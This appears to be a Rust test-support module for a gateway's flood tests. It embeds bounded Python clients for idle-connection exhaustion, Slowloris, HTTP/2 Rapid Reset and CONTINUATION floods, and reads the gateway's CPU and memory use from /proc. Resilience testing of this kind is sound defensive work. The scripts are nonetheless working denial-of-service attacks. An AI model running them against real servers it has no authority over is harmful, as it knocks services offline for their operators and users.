//! What the flood tests share: the attacking clients (python3 on raw
//! sockets, bounded in count and time) and the gateway's resource use read
//! from /proc.

use std::time::Duration;

/// CPU time and resident memory of one process.
#[derive(Clone, Copy, Debug)]
pub struct Usage {
    pub cpu: Duration,
    pub rss_kib: u64,
}

impl Usage {
    /// Reads `/proc/<pid>/stat` (utime + stime) and `/proc/<pid>/status` (VmRSS).
    pub fn of(pid: u32) -> Usage {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_else(|e| panic!("/proc/{pid}/stat: {e}"));
        // Fields after the command name, which ends at the last ')': state is field 3, utime 14, stime 15.
        let after = &stat[stat.rfind(')').expect("a command name") + 2..];
        let fields: Vec<&str> = after.split_whitespace().collect();
        let ticks: u64 = fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap();
        // SAFETY: sysconf has no memory-safety preconditions.
        let hz = unsafe { libc::sysconf(libc::_SC_CLK_TCK) }.max(1) as u64;
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_else(|e| panic!("/proc/{pid}/status: {e}"));
        let rss_kib = status
            .lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("no VmRSS in /proc/{pid}/status"));
        Usage { cpu: Duration::from_millis(ticks * 1000 / hz), rss_kib }
    }

    /// CPU spent and resident memory gained since `before`, as (seconds, MiB).
    pub fn since(&self, before: &Usage) -> (f64, f64) {
        let cpu = self.cpu.saturating_sub(before.cpu).as_secs_f64();
        let rss = (self.rss_kib as f64 - before.rss_kib as f64) / 1024.0;
        (cpu, rss)
    }
}

/// `python3 -c IDLE_CONNECTIONS HOST PORT COUNT`: opens COUNT connections
/// and sends nothing. Prints `opened N failed F`; then for each line on
/// stdin, and once 1 s after opening, `state open N closed M` (closed: the
/// peer closed or reset it). Exits when stdin closes, or after 120 s.
pub const IDLE_CONNECTIONS: &str = r#"
import resource, select, socket, sys, time
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
if hard != resource.RLIM_INFINITY and hard < count + 64:
    sys.exit("RLIMIT_NOFILE's hard limit %d is below %d connections" % (hard, count))
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks, failed = [], 0
for _ in range(count):
    try:
        socks.append(socket.create_connection((host, port), timeout=5))
    except OSError:
        failed += 1
print("opened %d failed %d" % (len(socks), failed), flush=True)
def state():
    open_ = closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1, socket.MSG_PEEK) == b"":
                closed += 1
            else:
                open_ += 1
        except BlockingIOError:
            open_ += 1
        except OSError:
            closed += 1
    print("state open %d closed %d" % (open_, closed), flush=True)
time.sleep(1)
state()
deadline = time.time() + 120
while time.time() < deadline:
    r, _, _ = select.select([sys.stdin], [], [], deadline - time.time())
    if not r or not sys.stdin.readline():
        break
    state()
"#;

/// `python3 -c SLOWLORIS HOST PORT AUTHORITY CONNS FIRST MAX_ROUNDS`: CONNS
/// connections; with FIRST=1 each first sends a whole request and reads its
/// answer. Then every 0.5 s one more byte of a request head that never ends
/// goes on each connection still open, for at most MAX_ROUNDS rounds.
/// Prints `first STATUS` per answered first request, then
/// `cut C of N rounds R bytes B` (B: the most bytes a cut connection sent).
pub const SLOWLORIS: &str = r#"
import select, socket, sys, time
host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
conns, first, max_rounds = int(sys.argv[4]), sys.argv[5] == "1", int(sys.argv[6])
socks = [socket.create_connection((host, port), timeout=10) for _ in range(conns)]
for s in socks:
    if first:
        s.sendall(("GET /first HTTP/1.1\r\nHost: %s\r\n\r\n" % authority).encode())
        data = b""
        while b"\r\n\r\n" not in data:
            data += s.recv(4096)
        head, body = data.split(b"\r\n\r\n", 1)
        length = [int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
        while length and len(body) < length[0]:
            body += s.recv(4096)
        print("first %s" % head.split()[1].decode(), flush=True)
head = ("GET /slow HTTP/1.1\r\nHost: %s\r\nX-Slow: " % authority).encode() + b"a" * 100000
open_ = {s: 0 for s in socks}
cut_bytes, rounds = 0, 0
while open_ and rounds < max_rounds:
    rounds += 1
    for s in list(open_):
        r, _, _ = select.select([s], [], [], 0)
        gone = False
        if r:
            try:
                gone = s.recv(4096) == b""
            except OSError:
                gone = True
        if not gone:
            try:
                s.send(head[open_[s]:open_[s] + 1])
                open_[s] += 1
            except OSError:
                gone = True
        if gone:
            cut_bytes = max(cut_bytes, open_.pop(s))
    time.sleep(0.5)
print("cut %d of %d rounds %d bytes %d" % (conns - len(open_), conns, rounds, cut_bytes), flush=True)
"#;

/// The HTTP/2 frames both floods send, and a reader of what comes back.
const H2: &str = r#"
import select, socket, struct, sys, time
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
def block(authority):
    # :method GET, :scheme http, :path /, :authority (literal, not indexed)
    a = authority.encode()
    return b"\x82\x86\x84\x01" + bytes([len(a)]) + a
class Peer:
    """Reads frames the server sent, without blocking; notes GOAWAY and the end."""
    def __init__(self, s):
        self.s, self.buf, self.goaway, self.ended, self.last_stream = s, b"", None, None, 0
    def poll(self):
        while self.ended is None:
            r, _, _ = select.select([self.s], [], [], 0)
            if not r:
                return
            try:
                data = self.s.recv(65536)
            except OSError as e:
                self.ended = "reset"
                return
            if not data:
                self.ended = "eof"
                return
            self.buf += data
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, payload = self.buf[3], self.buf[9:9 + length]
                if kind == 7 and self.goaway is None:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                    self.last_stream = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                self.buf = self.buf[9 + length:]
    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except socket.timeout:
            return True
        except OSError:
            self.ended = self.ended or "reset"
            return False
    def closing(self):
        return "goaway %d" % self.goaway if self.goaway is not None else (self.ended or "open")
"#;

/// `python3 -c RAPID_RESET HOST PORT AUTHORITY SECONDS MAX_STREAMS`: h2c
/// prior knowledge; on each connection, batches of 50 requests each reset
/// (RST_STREAM CANCEL) right after its HEADERS, until the server ends it;
/// then the next connection, until SECONDS or MAX_STREAMS. Prints
/// `connections C streams S most M last L endings E` (M: most streams one
/// connection wrote before its end, socket buffers included; L: the highest
/// last-stream-id a GOAWAY named, the streams the server took at most;
/// E: how each connection ended).
pub fn rapid_reset() -> String {
    H2.to_string()
        + r#"
host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
seconds, max_streams = float(sys.argv[4]), int(sys.argv[5])
deadline, total, most, last, endings = time.time() + seconds, 0, 0, 0, {}
hb = block(authority)
while time.time() < deadline and total < max_streams:
    s = socket.create_connection((host, port), timeout=5)
    peer = Peer(s)
    peer.send(PREFACE + frame(4, 0, 0))
    stream, sent = 1, 0
    while peer.ended is None and peer.goaway is None and time.time() < deadline and total < max_streams:
        batch = b""
        for _ in range(50):
            batch += frame(1, 0x5, stream, hb) + frame(3, 0, stream, struct.pack(">I", 8))
            stream += 2
        if not peer.send(batch):
            break
        sent += 50
        total += 50
        peer.poll()
    # The server's last frames.
    end = time.time() + 2
    while peer.ended is None and time.time() < end:
        time.sleep(0.05)
        peer.poll()
    most = max(most, sent)
    last = max(last, peer.last_stream)
    endings[peer.closing()] = endings.get(peer.closing(), 0) + 1
    s.close()
print("connections %d streams %d most %d last %d endings %s" % (sum(endings.values()), total, most, last,
      ",".join("%s=%d" % kv for kv in sorted(endings.items())).replace(" ", "_")), flush=True)
"#
}

/// `python3 -c CONTINUATION_FLOOD HOST PORT AUTHORITY MAX_FRAMES SECONDS`:
/// h2c prior knowledge, one HEADERS frame without END_HEADERS, then empty
/// CONTINUATION frames, 20 every 5 ms, until the peer ends the
/// connection, MAX_FRAMES or SECONDS. Prints `frames N ending E`.
pub fn continuation_flood() -> String {
    H2.to_string()
        + r#"
host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
max_frames, seconds = int(sys.argv[4]), float(sys.argv[5])
s = socket.create_connection((host, port), timeout=1)
peer = Peer(s)
peer.send(PREFACE + frame(4, 0, 0) + frame(1, 0x1, 1, block(authority)))
sent, deadline = 0, time.time() + seconds
batch = frame(9, 0, 1) * 20
while peer.ended is None and peer.goaway is None and sent < max_frames and time.time() < deadline:
    if not peer.send(batch):
        break
    sent += 20
    # A pause, so a server that reads everything can answer before more comes.
    time.sleep(0.005)
    peer.poll()
end = time.time() + 3
while peer.ended is None and time.time() < end:
    time.sleep(0.05)
    peer.poll()
print("frames %d ending %s" % (sent, peer.closing().replace(" ", "_")), flush=True)
"#
}

/// The value after `key` in a line of `key value` pairs.
pub fn field(line: &str, key: &str) -> String {
    let words: Vec<&str> = line.split_whitespace().collect();
    words
        .iter()
        .position(|w| *w == key)
        .and_then(|i| words.get(i + 1))
        .unwrap_or_else(|| panic!("no {key} in `{line}`"))
        .to_string()
}

/// [`field`] as a number.
pub fn number(line: &str, key: &str) -> u64 {
    field(line, key).parse().unwrap_or_else(|e| panic!("{key} in `{line}`: {e}"))
}
